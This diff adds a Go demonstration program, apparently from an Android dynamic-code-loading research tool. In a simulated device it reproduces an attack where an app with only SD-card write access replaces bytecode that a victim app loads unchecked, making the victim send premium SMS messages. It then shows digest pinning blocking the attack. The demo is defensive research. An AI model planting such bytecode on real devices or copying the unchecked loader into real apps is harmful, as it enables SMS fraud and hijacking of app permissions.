@@ -1,0 +1,126 @@
+// Securedcl demonstrates the Table IX code-injection attack end to end
+// and the mitigation the paper points to (Falsina et al.'s Grab'n Run):
+//
+//  1. A victim app caches loadable bytecode on world-writable external
+//     storage (the com.longtukorea.snmg pattern) and loads it with a
+//     plain DexClassLoader — no integrity check.
+//  2. An attacker app holding only the SD-card write permission replaces
+//     the file. The victim now executes attacker code with every
+//     permission the victim holds.
+//  3. The same victim using a digest-pinning SecureDexClassLoader refuses
+//     the tampered file.
+package main
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"log"
+
+	"github.com/dydroid/dydroid/internal/android"
+	"github.com/dydroid/dydroid/internal/apk"
+	"github.com/dydroid/dydroid/internal/dex"
+	"github.com/dydroid/dydroid/internal/monkey"
+	"github.com/dydroid/dydroid/internal/vm"
+)
+
+const jarPath = android.ExternalRoot + "im_sdk/jar/voice.jar"
+
+func payload(evil bool) []byte {
+	b := dex.NewBuilder()
+	m := b.Class("com.voice.Sdk", "java.lang.Object").Method("boot", dex.ACCPublic, 4, "V")
+	if evil {
+		m.NewInstance(1, "android.telephony.SmsManager").
+			ConstString(2, "+premium900").
+			ConstString(3, "SUBSCRIBE").
+			InvokeVirtual(dex.MethodRef{Class: "android.telephony.SmsManager",
+				Name: "sendTextMessage", Sig: "(Ljava/lang/String;Ljava/lang/String;)V"}, 1, 2, 3)
+	}
+	m.ReturnVoid().Done()
+	data, err := dex.Encode(b.File())
+	if err != nil {
+		log.Fatal(err)
+	}
+	return data
+}
+
+func victim(pkg, pinnedDigest string) *apk.APK {
+	b := dex.NewBuilder()
+	m := b.Class(pkg+".Main", "android.app.Activity").
+		Method("onCreate", dex.ACCPublic, 8, "V", "Landroid/os/Bundle;")
+	m.ConstString(1, jarPath).
+		ConstString(2, android.InternalDir(pkg)+"odex")
+	if pinnedDigest == "" {
+		m.NewInstance(3, "dalvik.system.DexClassLoader").
+			InvokeDirect(dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
+				Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
+				3, 1, 2, 0, 0)
+	} else {
+		m.NewInstance(3, vm.SecureLoaderClass).
+			ConstString(4, pinnedDigest).
+			InvokeDirect(dex.MethodRef{Class: vm.SecureLoaderClass, Name: "<init>",
+				Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;Ljava/lang/String;)V"},
+				3, 1, 2, 0, 0, 4)
+	}
+	m.NewInstance(5, "com.voice.Sdk").
+		InvokeVirtual(dex.MethodRef{Class: "com.voice.Sdk", Name: "boot", Sig: "()V"}, 5).
+		ReturnVoid().Done()
+	dexBytes, err := dex.Encode(b.File())
+	if err != nil {
+		log.Fatal(err)
+	}
+	return &apk.APK{
+		Manifest: apk.Manifest{Package: pkg, MinSDK: 16,
+			Permissions: []apk.UsesPerm{
+				{Name: apk.WriteExternalStorage},
+				{Name: "android.permission.SEND_SMS"},
+			},
+			Application: apk.Application{Activities: []apk.Component{{Name: pkg + ".Main", Main: true}}}},
+		Dex: dexBytes,
+	}
+}
+
+func run(title string, app *apk.APK, plant []byte) {
+	fmt.Printf("== %s ==\n", title)
+	dev := android.NewDevice() // API 18: external storage world-writable
+	// The attacker — a different package, no special permissions needed
+	// before KitKat — plants its file first.
+	if err := dev.Storage.WriteFile(jarPath, plant, "com.evil.flashlight", false); err != nil {
+		log.Fatal(err)
+	}
+	installed, err := dev.Packages.Install(app)
+	if err != nil {
+		log.Fatal(err)
+	}
+	m, err := vm.New(dev, nil, installed, nil, nil)
+	if err != nil {
+		log.Fatal(err)
+	}
+	res := monkey.Exercise(m, 5, 1)
+	fmt.Printf("  victim run: %s", res.Outcome)
+	if res.Err != nil {
+		fmt.Printf(" (%v)", res.Err)
+	}
+	fmt.Println()
+	for _, ev := range m.Events() {
+		fmt.Printf("  !! attacker code executed as victim: %s %s %q\n", ev.Kind, ev.Detail, ev.Data)
+	}
+	if len(m.Events()) == 0 {
+		fmt.Println("  no attacker behaviour observed")
+	}
+	fmt.Println()
+}
+
+func main() {
+	benign := payload(false)
+	evil := payload(true)
+	sum := sha256.Sum256(benign)
+	digest := hex.EncodeToString(sum[:])
+
+	run("vulnerable loader, legitimate file", victim("com.victim.a", ""), benign)
+	run("vulnerable loader, ATTACKER file", victim("com.victim.b", ""), evil)
+	run("secure loader (pinned digest), ATTACKER file", victim("com.victim.c", digest), evil)
+	fmt.Println("one app with only the SD-card write permission misbehaves with all")
+	fmt.Println("the permissions of the vulnerable app (paper §V-B-e); digest pinning")
+	fmt.Println("(Grab'n Run) closes the hole without giving up DCL.")
+}
